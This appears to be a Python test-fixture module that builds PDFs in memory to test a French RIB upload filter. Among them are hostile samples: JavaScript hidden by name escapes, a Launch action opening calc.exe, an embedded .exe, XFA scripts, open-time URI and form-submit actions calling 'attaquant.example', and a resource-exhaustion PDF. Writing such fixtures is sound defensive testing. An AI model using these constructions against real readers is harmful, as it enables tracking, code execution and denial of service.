"""PDFs (and not-PDFs) for the RIB tests, built in memory: no binary fixture in the repository.

Most are written object by object with a tiny writer below, which keeps each hostile feature
(JavaScript, launch action, embedded file…) explicit and in the exact place a test wants it.
pypdf encrypts one; WeasyPrint renders a realistic RIB, like those banks produce.
"""

import io
import zlib
from functools import cache

from PIL import Image
from pypdf import PdfReader, PdfWriter

RIB_IBAN = "FR76 3000 6000 0112 3456 7890 189"
OTHER_IBAN = "DE89 3704 0044 0532 0130 00"


class PdfBuilder:
    """Numbered objects, then a classic cross-reference table: a valid PDF for a strict reader."""

    def __init__(self):
        self.objects = []

    def reserve(self):
        self.objects.append(None)
        return len(self.objects)

    def add(self, body, number=None):
        if number is None:
            number = self.reserve()
        self.objects[number - 1] = body
        return number

    def add_stream(self, dictionary, data, number=None):
        body = b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
        return self.add(body, number)

    def build(self, root):
        out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        offsets = []
        for number, body in enumerate(self.objects, start=1):
            offsets.append(len(out))
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(self.objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
        out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
            len(self.objects) + 1,
            root,
            xref,
        )
        return bytes(out)


def _pdf_string(text):
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + escaped.encode("cp1252") + b")"  # cp1252 is the font's WinAnsiEncoding


def rib_lines(iban=RIB_IBAN):
    return [
        "RELEVÉ D'IDENTITÉ BANCAIRE",
        "Titulaire du compte : SARL LES ATELIERS DU DRAC, 12 rue des Alliés, 38100 Grenoble",
        "Domiciliation : CAISSE RÉGIONALE DE CRÉDIT AGRICOLE SUD RHÔNE ALPES",
        "Code banque 30006   Code guichet 00001   N° de compte 12345678901   Clé RIB 89",
        f"IBAN : {iban}",
        "BIC : AGRIFRPP881",
    ]


def text_pdf(*pages, catalog_extra=b"", page_extra=b"", padding=0, images=()):
    """One page per list of lines, in Helvetica; `catalog_extra` and `page_extra` go into the
    catalog and the first page dictionaries, `images` (width, height, grey bytes) are drawn on
    the first page, and `padding` adds an unused image stream of that many bytes."""
    builder = PdfBuilder()
    catalog, pages_tree, font = builder.reserve(), builder.reserve(), builder.reserve()
    builder.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>", font)
    xobjects = b""
    if padding:
        pad = builder.add_stream(
            b"/Type /XObject /Subtype /Image /Width %d /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8" % padding,
            b"\x80" * padding,
        )
        xobjects += b"/Pad %d 0 R " % pad
    kids = []
    for index, lines in enumerate(pages):
        operators = b"BT /F1 11 Tf 14 TL 50 790 Td " + b" ".join(_pdf_string(line) + b" '" for line in lines) + b" ET"
        drawn = b""
        for image_index, (width, height, data) in enumerate(images if index == 0 else ()):
            number = builder.add_stream(
                b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8" % (width, height),
                data,
            )
            xobjects += b"/Im%d %d 0 R " % (image_index, number)
            drawn += b"q 400 0 0 250 100 450 cm /Im%d Do Q " % image_index
        content = builder.add_stream(b"", drawn + operators)
        page = builder.reserve()
        extra = page_extra if index == 0 else b""
        builder.add(
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> /XObject << %s>> >> %s >>"
            % (pages_tree, content, font, xobjects, extra),
            page,
        )
        kids.append(b"%d 0 R" % page)
    builder.add(b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids)), pages_tree)
    builder.add(b"<< /Type /Catalog /Pages %d 0 R %s >>" % (pages_tree, catalog_extra), catalog)
    return builder, catalog


def pdf(*pages, **options):
    builder, catalog = text_pdf(*pages, **options)
    return builder.build(catalog)


def rib_pdf(iban=RIB_IBAN):
    return pdf(rib_lines(iban))


def no_iban_pdf():
    return pdf(["Attestation d'assurance responsabilité civile professionnelle", "Contrat n° 2024-118"])


def scan_like_pdf():
    """A scanned RIB: one page that is only an image, no text."""
    builder, catalog = text_pdf([], images=[(200, 125, bytes(range(250)) * 100)])
    return builder.build(catalog)


def pdf_with_objects(page_extra=b"", catalog_extra=b"", objects=()):
    """The RIB plus hostile objects: `objects` (bodies, or (dictionary, data) for streams) get
    the next free numbers, which the other bodies write "{n}", "{n+1}"…"""
    builder, catalog = text_pdf(rib_lines(), catalog_extra=catalog_extra, page_extra=page_extra)
    first = len(builder.objects) + 1
    for body in objects:
        if isinstance(body, tuple):
            builder.add_stream(*body)
        else:
            builder.add(body)
    builder.objects = [_number(body, first) for body in builder.objects]
    return builder.build(catalog)


def _number(body, first):
    for offset in range(5, -1, -1):
        body = body.replace(b"{n+%d}" % offset if offset else b"{n}", b"%d" % (first + offset))
    return body


def javascript_pdf(place):
    js_action = b"<< /S /JavaScript /JS (app.alert\\('Bonjour'\\);) >>"
    if place == "names":
        return pdf_with_objects(
            catalog_extra=b"/Names << /JavaScript {n} 0 R >>",
            objects=[b"<< /Names [(bienvenue) {n+1} 0 R] >>", js_action],
        )
    if place == "open_action":
        return pdf_with_objects(catalog_extra=b"/OpenAction " + js_action)
    if place == "annotation":
        return pdf_with_objects(
            page_extra=b"/Annots [{n} 0 R]",
            objects=[b"<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] /A " + js_action + b" >>"],
        )
    if place == "page_open":  # page « additional action », run when the page is shown
        return pdf_with_objects(page_extra=b"/AA << /O " + js_action + b" >>")
    if place == "hidden_names":
        # Names written with #xx escapes and the script in a stream: invisible to a byte search
        # for "/JavaScript" or "/JS", the same to a PDF viewer.
        return pdf_with_objects(
            catalog_extra=b"/OpenAction {n} 0 R",
            objects=[b"<< /S /J#61vaScript /J#53 {n+1} 0 R >>", (b"", b"app.alert('Bonjour');")],
        )
    raise ValueError(place)


def launch_pdf(place):
    launch = b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"
    if place == "open_action":
        return pdf_with_objects(catalog_extra=b"/OpenAction " + launch)
    if place == "annotation":
        return pdf_with_objects(
            page_extra=b"/Annots [{n} 0 R]",
            objects=[b"<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] /A " + launch + b" >>"],
        )
    raise ValueError(place)


def embedded_file_pdf(place):
    embedded = (b"/Type /EmbeddedFile", b"MZ pretend this is a program")
    if place == "names":
        return pdf_with_objects(
            catalog_extra=b"/Names << /EmbeddedFiles {n} 0 R >>",
            objects=[
                b"<< /Names [(facture.exe) {n+1} 0 R] >>",
                b"<< /Type /Filespec /F (facture.exe) /EF << /F {n+2} 0 R >> >>",
                embedded,
            ],
        )
    if place == "annotation":
        return pdf_with_objects(
            page_extra=b"/Annots [{n} 0 R]",
            objects=[
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [50 700 70 720] /FS {n+1} 0 R >>",
                b"<< /Type /Filespec /F (facture.exe) /EF << /F {n+2} 0 R >> >>",
                embedded,
            ],
        )
    raise ValueError(place)


def content_pdf(content, pages=1):
    """`pages` pages that all draw the same compressed content stream (Helvetica is /F1)."""
    builder = PdfBuilder()
    catalog, pages_tree, font = builder.reserve(), builder.reserve(), builder.reserve()
    builder.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>", font)
    stream = builder.add_stream(b"/Filter /FlateDecode", zlib.compress(content, 9))
    kids = [
        builder.add(
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (pages_tree, stream, font)
        )
        for _page in range(pages)
    ]
    builder.add(
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % kid for kid in kids), len(kids)),
        pages_tree,
    )
    builder.add(b"<< /Type /Catalog /Pages %d 0 R >>" % pages_tree, catalog)
    return builder.build(catalog)


def costly_pdf(repeats=1_500_000, pages=5):
    """The attack that took a worker down: 16 Ko, one compressed content stream that shows « A »
    `repeats` times (1.5 million operators), drawn by each of `pages` pages."""
    return content_pdf(b"BT /F1 11 Tf 50 790 Td " + b"(A) Tj " * repeats + b"ET", pages)


def drawn_form_pdf(operators, draws):
    """The RIB, whose page also draws `draws` times a form of `operators` text operators: pypdf
    parses a form again each time it is drawn."""
    builder = PdfBuilder()
    catalog, pages_tree, font = builder.reserve(), builder.reserve(), builder.reserve()
    builder.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>", font)
    form = builder.add_stream(
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 %d 0 R >> >>" % font,
        b"BT /F1 11 Tf " + b"(A) Tj " * (operators - 2) + b"ET",
    )
    text = b"BT /F1 11 Tf 14 TL 50 790 Td " + b" ".join(_pdf_string(line) + b" '" for line in rib_lines()) + b" ET "
    content = builder.add_stream(b"/Filter /FlateDecode", zlib.compress(text + b"/Fm1 Do " * draws))
    page = builder.add(
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> /XObject << /Fm1 %d 0 R >> >> >>" % (pages_tree, content, font, form)
    )
    builder.add(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page, pages_tree)
    builder.add(b"<< /Type /Catalog /Pages %d 0 R >>" % pages_tree, catalog)
    return builder.build(catalog)


# An XFA form's template with a script (JavaScript; FormCalc is refused the same way).
XFA_SCRIPT = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="rib">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b"xfa.host.messageBox('Bonjour');</script></event></subform></template>"
)
XFA_SUBMIT = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="rib">'
    b'<field name="envoyer"><event activity="click"><submit format="xml" target="http://attaquant.example/"/>'
    b"</event></field></subform></template>"
)
XFA_PLAIN = b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="rib"/></template>'


def xfa_pdf(template=XFA_SCRIPT, layout="stream"):
    """The RIB with an XFA form: one compressed stream, or an array of (name, stream) pairs."""
    xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">%s</xdp:xdp>' % template
    if layout == "stream":
        return pdf_with_objects(
            catalog_extra=b"/AcroForm << /Fields [] /XFA {n} 0 R >>",
            objects=[(b"/Filter /FlateDecode", zlib.compress(xdp))],
        )
    if layout == "array":
        return pdf_with_objects(
            catalog_extra=b"/AcroForm << /Fields [] /XFA [(preamble) {n} 0 R (template) {n+1} 0 R "
            b"(postamble) {n+2} 0 R] >>",
            objects=[
                (b"", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'),
                (b"/Filter /FlateDecode", zlib.compress(template)),
                (b"", b"</xdp:xdp>"),
            ],
        )
    raise ValueError(layout)


def action_pdf(kind):
    """The RIB with an action that sends data out or brings a file in."""
    url = b"(http://attaquant.example/collecte)"
    share = b"<< /FS /URL /F (file://serveur-attaquant/partage/rib.pdf) >>"
    clicked = b"/Annots [{n} 0 R]"

    def link(action):
        return [b"<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] /A " + action + b" >>"]

    builders = {
        # Run when the file is opened: the address learns who opens it, and when.
        "open_action_uri": lambda: pdf_with_objects(catalog_extra=b"/OpenAction << /S /URI /URI " + url + b" >>"),
        "page_open_uri": lambda: pdf_with_objects(page_extra=b"/AA << /O << /S /URI /URI " + url + b" >> >>"),
        "next_uri": lambda: pdf_with_objects(
            catalog_extra=b"/OpenAction << /S /Named /N /FirstPage /Next [{n} 0 R] >>",
            objects=[b"<< /S /URI /URI " + url + b" >>"],
        ),
        # Refused even behind a click.
        "submit_form": lambda: pdf_with_objects(
            page_extra=clicked, objects=link(b"<< /S /SubmitForm /F " + share + b" /Flags 4 >>")
        ),
        "import_data": lambda: pdf_with_objects(catalog_extra=b"/OpenAction << /S /ImportData /F " + share + b" >>"),
        "goto_remote": lambda: pdf_with_objects(
            page_extra=clicked, objects=link(b"<< /S /GoToR /F " + share + b" /D [0 /Fit] >>")
        ),
        "goto_embedded": lambda: pdf_with_objects(
            catalog_extra=b"/OpenAction << /S /GoToE /T << /R /C /N (rib.pdf) >> /D [0 /Fit] >>"
        ),
        "xfa_submit": lambda: xfa_pdf(XFA_SUBMIT),
    }
    return builders[kind]()


def link_pdf():
    """The RIB with the bank's web address as a link the reader clicks: allowed."""
    return pdf_with_objects(
        page_extra=b"/Annots [{n} 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] "
            b"/A << /S /URI /URI (https://www.ca-sudrhonealpes.fr/) >> >>"
        ],
    )


def rich_media_pdf():
    """The RIB with a RichMedia annotation (Flash, video, 3D: its own scripts)."""
    return pdf_with_objects(
        page_extra=b"/Annots [{n} 0 R]",
        objects=[
            b"<< /Type /Annot /Subtype /RichMedia /Rect [50 500 300 700] /RichMediaContent << /Assets "
            b"<< /Names [(video.swf) {n+1} 0 R] >> >> >>",
            b"<< /Type /Filespec /F (video.swf) >>",
        ],
    )


def encrypted_pdf():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(rib_pdf())))
    writer.encrypt(user_password="secret", algorithm="RC4-128")  # RC4: no crypto library needed
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated_pdf():
    data = rib_pdf()
    return data[: len(data) // 2]


def png_bytes():
    out = io.BytesIO()
    Image.new("RGB", (60, 40), "white").save(out, format="PNG")
    return out.getvalue()


def padded_rib_pdf(size):
    """The RIB, made exactly `size` bytes long by an unused image stream."""
    padding = size - len(rib_pdf())
    for _attempt in range(10):  # the padding's /Length and the offsets may gain a digit
        data = pdf(rib_lines(), padding=padding)
        if len(data) == size:
            return data
        padding += size - len(data)
    raise AssertionError(f"could not build a PDF of {size} bytes")


def pages_pdf(count, iban_on_page):
    """A `count`-page PDF whose page `iban_on_page` (1-based) holds the RIB."""
    return pdf(*(rib_lines() if number == iban_on_page else [f"Page {number}"] for number in range(1, count + 1)))


@cache
def weasyprint_rib_pdf(iban=RIB_IBAN):
    """A RIB as banks print them: a table, an embedded subset font, the IBAN in groups of 4."""
    from weasyprint import HTML

    html = f"""<!doctype html><html lang="fr"><head><meta charset="utf-8"><style>
      body {{ font-family: sans-serif; font-size: 10pt; }}
      table {{ border-collapse: collapse; }} td, th {{ border: 1px solid #444; padding: 4px 8px; }}
    </style></head><body>
      <h1>Relevé d'identité bancaire</h1>
      <p>Titulaire : SARL LES ATELIERS DU DRAC<br>12 rue des Alliés, 38100 Grenoble</p>
      <table><tr><th>Code banque</th><th>Code guichet</th><th>N° de compte</th><th>Clé RIB</th></tr>
        <tr><td>30006</td><td>00001</td><td>12345678901</td><td>89</td></tr></table>
      <p><strong>IBAN</strong> {iban}</p><p><strong>BIC</strong> AGRIFRPP881</p>
    </body></html>"""
    return HTML(string=html).write_pdf()
